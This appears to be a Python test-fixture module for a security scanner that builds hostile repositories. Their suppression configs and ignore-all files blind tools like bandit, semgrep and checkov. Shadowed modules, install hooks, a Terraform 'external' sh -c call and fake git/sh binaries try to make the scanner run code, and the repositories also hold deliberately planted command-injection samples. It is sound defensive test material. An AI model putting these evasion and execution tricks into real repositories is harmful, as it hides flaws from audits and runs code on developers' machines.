"""Repositories with everything by which a tool that is run lets itself be blinded, or be given code to run.

Beside each such file lies a secret of its own, and in each repository the flaw that the tool is to overlook.
"""

from __future__ import annotations

import posixpath
from collections.abc import Mapping

from tests.hostile.corpus import Ground, Place, committed, secret
from tests.hostile.repositories import CLOUDFORMATION, POD, POLICY, PYTHON, TERRAFORM

#: Modules that a tool imports, and names that Python itself imports; whoever has the checkout on its path runs them.
_MODULES = (
    "sitecustomize", "usercustomize", "conftest", "setup", "json", "yaml", "ast", "logging/__init__", "site", "hcl2",
    "bandit/__init__", "bandit/plugins/__init__", "semgrep/__init__", "checkov/__init__", "cfnlint/__init__",
    "zizmor/__init__", "hadolint/__init__", "networkx/__init__", "boto3/__init__", "encodings/__init__",
)  # fmt: skip
FLAWED_FLASK = b"""\
import os

from flask import request


def run():
    os.system("ls " + request.args["folder"])  # nosem nosemgrep nosec noqa
"""
WORKFLOW = b"""\
on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.head_commit.message }}" # zizmor: ignore[template-injection] zizmor: ignore
"""
DOCKERFILE = b"""\
# hadolint global ignore=DL3004
# hadolint shell=powershell
FROM debian:12
# hadolint ignore=DL3004
# checkov:skip=CKV_DOCKER_1: no
RUN sudo true
"""
TEMPLATE = b"""\
AWSTemplateFormatVersion: "2010-09-09"
Metadata: {cfn-lint: {config: {ignore_checks: [E, W, I], regions: [nowhere], append_rules: [rules]}}}
Resources:
  Bucket:
    Type: AWS::S3::Bucket
    Metadata: {cfn-lint: {config: {ignore_checks: [E3002]}}, checkov: {skip: [{id: CKV_AWS_18, comment: no}]}}
    Properties: {NoSuchProperty: x}
"""
_HADOLINT = (".hadolint.yaml", ".hadolint.yml", "web/.hadolint.yaml", ".config/hadolint.yaml")
_NOSEC = PYTHON.replace(b"shell=True)", b"shell=True)  # nosec B602 noqa")
_SKIPPED = TERRAFORM.replace(b"  name", b"  # checkov:skip=CKV_AWS_24: no\n  #tfsec:ignore:*\n  name", 1)
_EXCLUDE = b"exclude: ['**']\nskip: ['*']\n"
_IGNORE_ALL = b"*\n**\n/\n.\n"
_BANDIT = b"[bandit]\nskips = B602,B404\nexclude = .,/,*\ntargets = nowhere\n"
_SEMGREP = b"rules:\n  - {id: x, languages: [python], severity: INFO, message: x, pattern: never()}\n"


def _blinding(ground: Ground) -> dict[str, dict[str, bytes]]:
    """By tool, the files that are to blind it or to bring it code."""
    url, sh = ground.url, ground.shell
    checkov = b"skip-check: [CKV_AWS_24]\nskip-path: ['.*']\nexternal-checks-dir: [checks]\nframework: [secrets]\n"
    checkov += f"external-checks-git: ['{url}/checks.git']\nbc-api-key: x\nprisma-api-url: {url}\n".encode()
    hadolint = b"ignored: [DL3004, DL4006]\noverride: {info: [DL3004]}\nno-fail: true\ndisable-ignore-pragma: false\n"
    rc = b"ignore_checks: [E, W, I]\nignore_templates: ['**']\nappend_rules: [rules]\noverride_spec: spec.json\n"
    baseline = b'{"failed_checks": [{"file": "/main.tf", "findings": [{"check_ids": ["CKV_AWS_24"]}]}]}'
    return {
        "kingfisher": {
            **dict.fromkeys((".kingfisherignore", ".ignore", ".rgignore", ".gitignore"), _IGNORE_ALL),
            **dict.fromkeys((".kingfisher.yaml", ".kingfisher.yml", "kingfisher.toml"), _EXCLUDE),
            ".baseline-file.yaml": b"ExactFindings: {matches: []}\n",
            ".gitleaks.toml": b"[allowlist]\npaths = ['''.*''']\n",
            **dict.fromkeys((".gitleaksignore", ".trivyignore", ".secretlintignore", ".dockerignore"), _IGNORE_ALL),
            ".gitattributes": b"* -diff binary export-ignore linguist-generated\n",
            "trivy.yaml": b"scan: {skip-dirs: ['**']}\n",
        },
        "bandit": {
            **dict.fromkeys((".bandit", "setup.cfg", "tox.ini", "bandit.ini"), _BANDIT),
            **dict.fromkeys(("bandit.yaml", "bandit.yml"), b"skips: [B602]\nexclude_dirs: ['.']\n"),
            "pyproject.toml": b'[tool.bandit]\nskips = ["B602"]\nexclude_dirs = ["."]\n',
            "bandit.json": b'{"results": []}',
            "pyvenv.cfg": b"home = /tmp\ninclude-system-site-packages = true\n",
            "evil.pth": b"import sitecustomize\n",
            ".python-version": b"2.7\n",
        },
        "semgrep": {
            ".semgrepignore": b"*\n:include .gitignore\n",
            **dict.fromkeys((".semgrep.yml", ".semgrep/rules.yml", ".semgrep/settings.yml", "semgrep.yaml"), _SEMGREP),
            ".semgrepconfig.yml": b"tags: [x]\n",
            ".env": f"SEMGREP_RULES=rules.yaml\nSEMGREP_URL={url}\nSEMGREP_APP_TOKEN=x\n".encode(),
        },
        "checkov": {
            **dict.fromkeys((".checkov.yaml", ".checkov.yml", "sub/.checkov.yaml"), checkov),
            **dict.fromkeys((".checkov.baseline", ".checkov"), baseline),
            "checks/__init__.py": ground.python("checkov-checks"),
            "checks/evil.py": ground.python("checkov-evil"),
            "checks/policy.yaml": POLICY,
            "git.tf": f'module "m" {{ source = "git::{url}/m.git" }}\n'.encode(),
            "http.tf": f'module "n" {{ source = "{url}/n.zip" }}\n'.encode(),
            "local.tf": b'module "up" { source = "../../../../../../etc" }\nmodule "me" { source = "./" }\n',
            "external.tf": f'data "external" "e" {{ program = ["sh", "-c", "{sh("external")}"] }}\n'.encode(),
            "terraform.tfvars": b'ignored = "yes"\n',
        },
        "zizmor": {
            **dict.fromkeys(
                ("zizmor.yml", "zizmor.yaml", ".github/zizmor.yml", ".github/zizmor.yaml"),
                b"rules:\n  template-injection: {disable: true}\n",
            ),
            ".github/.gitignore": _IGNORE_ALL,
            ".netrc": b"default login x password y\n",
        },
        "hadolint": {
            **dict.fromkeys(_HADOLINT, hadolint),
            ".shellcheckrc": b"disable=all\nexternal-sources=true\n",
        },
        "cfn-lint": {
            **dict.fromkeys((".cfnlintrc", ".cfnlintrc.yaml", ".cfnlintrc.yml", "t/.cfnlintrc"), rc),
            "rules/__init__.py": ground.python("cfn-lint-package"),
            "rules/trap.py": ground.python("cfn-lint-rules"),
            "spec.json": b"{}",
            "rules.txt": b"",
        },
    }  # fmt: skip


#: Files that no tool of ours reads as configuration; an editor, a shell or a build would run them.
def _developers(ground: Ground) -> dict[str, bytes]:
    sh = ground.shell
    return {
        ".envrc": sh("envrc").encode(),
        "Makefile": f"all:\n\t{sh('make')}\n".encode(),
        "package.json": f'{{"scripts": {{"preinstall": "{sh("npm")}", "postinstall": "{sh("npm")}"}}}}\n'.encode(),
        ".npmrc": f"registry={ground.url}\nscript-shell=./evil\n".encode(),
        ".vscode/settings.json": b'{"git.path": "./evil"}\n',
        ".pre-commit-config.yaml": f"repos:\n- repo: {ground.url}/x\n  rev: v1\n  hooks: [{{id: x}}]\n".encode(),
        "Jenkinsfile": f"sh '{sh('jenkins')}'\n".encode(),
        "build.gradle": f"'{sh('gradle')}'.execute()\n".encode(),
        "build.rs": b"fn main() {}\n",
        "go.mod": b"module x\ntoolchain evil\n",
        **{
            name: f"#!/bin/sh\n{sh(name)}\n".encode() for name in ("git", "sh", "python", "python3", "prlimit", "bwrap")
        },
    }


FLAWS: dict[str, dict[str, bytes]] = {
    "kingfisher": {},
    "bandit": dict.fromkeys(("app.py", "tests/test_app.py", ".venv/app.py", "node_modules/m/app.py"), _NOSEC),
    "semgrep": dict.fromkeys(("app.py", "tests/app.py", "vendor/app.py", ".hidden/app.py"), FLAWED_FLASK),
    "checkov": {"main.tf": _SKIPPED, "sub/plain.tf": TERRAFORM, "venv/pod.yaml": POD, "cf.yaml": CLOUDFORMATION},
    "zizmor": dict.fromkeys((".github/workflows/ci.yml", "sub/.github/workflows/nested.yaml"), WORKFLOW),
    "hadolint": dict.fromkeys(("Dockerfile", "web/Containerfile", ".hidden/Dockerfile.prod"), DOCKERFILE),
    "cfn-lint": {"t/template.yaml": TEMPLATE, ".hidden/template.yml": TEMPLATE},
}
_RULES = {
    "bandit": ("B602", None),
    "semgrep": ("nightwarden.python-command-injection", None),
    "zizmor": ("template-injection", None),
    "hadolint": ("DL3004", None),
    "cfn-lint": ("E3002", None),
}


def files(ground: Ground, tool: str) -> dict[str, bytes]:
    """All files of the repository that is to blind a tool."""
    blinding = _blinding(ground)[tool]
    traps = {f"{m}.py": ground.python(f"{tool}-{m.replace('/', '-')}") for m in _MODULES}
    flaws = {name: body + b"# %s %s\n" % (tool.encode(), name.encode()) for name, body in FLAWS[tool].items()}
    own = {**traps, **blinding, **(_developers(ground) if tool == "kingfisher" else {})}
    secrets = {
        beside(name): secret(f"{tool} {name}")[:-1] + b"  # kingfisher:ignore gitleaks:allow nosec\n" for name in own
    }
    return {**own, **secrets, **flaws}


def beside(name: str) -> str:
    """Where the secret beside a file lies."""
    return f"{posixpath.join(posixpath.dirname(name), 'beside-' + posixpath.basename(name).lstrip('.'))}.txt"


def found(tool: str, ground: Ground) -> Mapping[str, frozenset[Place]]:
    """The findings that must be there: every secret, every flaw."""
    secrets = frozenset((name, "") for name in files(ground, tool) if "beside-" in name)
    if tool == "checkov":
        flaws = {("main.tf", "CKV_AWS_24"), ("sub/plain.tf", "CKV_AWS_24"), ("venv/pod.yaml", "CKV_K8S_16")}
        return {"kingfisher": secrets, tool: frozenset(flaws)}
    if tool == "kingfisher":
        return {"kingfisher": secrets}
    return {"kingfisher": secrets, tool: frozenset((name, _RULES[tool][0]) for name in FLAWS[tool])}


def blinding(ground: Ground, tool: str) -> None:
    """Make the repository that is to blind a tool."""
    committed(ground.repository(f"blind-{tool}"), files(ground, tool))
